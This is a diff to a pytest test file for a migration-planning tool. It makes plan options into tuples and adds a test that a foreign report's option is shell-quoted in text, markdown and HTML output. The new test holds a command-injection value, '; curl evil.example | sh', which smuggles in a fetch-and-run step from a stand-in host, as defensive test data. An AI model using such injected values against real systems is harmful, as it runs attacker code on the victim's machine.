@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import json
 
 import pytest
@@ -140,11 +141,11 @@ def test_of_several_targets_the_text_names_none() -> None:
 
 
 def test_the_command_has_the_options_of_the_check() -> None:
-    of = check(finding(), plan_options="--models 'a b:Base'", configured=False)
+    of = check(finding(), plan_options=("--models", "a b:Base"), configured=False)
     shown = texts(of)
     assert "\ndrift plan --models 'a b:Base' writes the migration\n" in shown["text"]
     assert "`drift plan --models 'a b:Base' --finding 0123456789abcdef`" in shown["markdown"]
-    shown = texts(check(finding(), plan_options="--bind b"))
+    shown = texts(check(finding(), plan_options=("--bind", "b")))
     assert "\ndrift plan production --bind b writes the migration\n" in shown["text"]
 
 
@@ -161,3 +162,11 @@ def test_a_document_has_the_fix_of_differences_only() -> None:
     of = report(finding(), actual_source="snapshot")
     [written] = json.loads(resolve("json")(of, Options()))["checks"]
     assert written["findings"][0]["fix"] is None
+
+
+def test_an_option_of_a_foreign_report_is_quoted() -> None:
+    shown = texts(check(finding(), plan_options=("; curl evil.example | sh #`x`",)))
+    command = "drift plan production '; curl evil.example | sh #`x`'"
+    assert f"\n{command} writes the migration\n" in shown["text"]
+    assert f"\n``{command}`` writes the migration.\n" in shown["markdown"]
+    assert f"{command} --finding" in html.unescape(shown["html"])
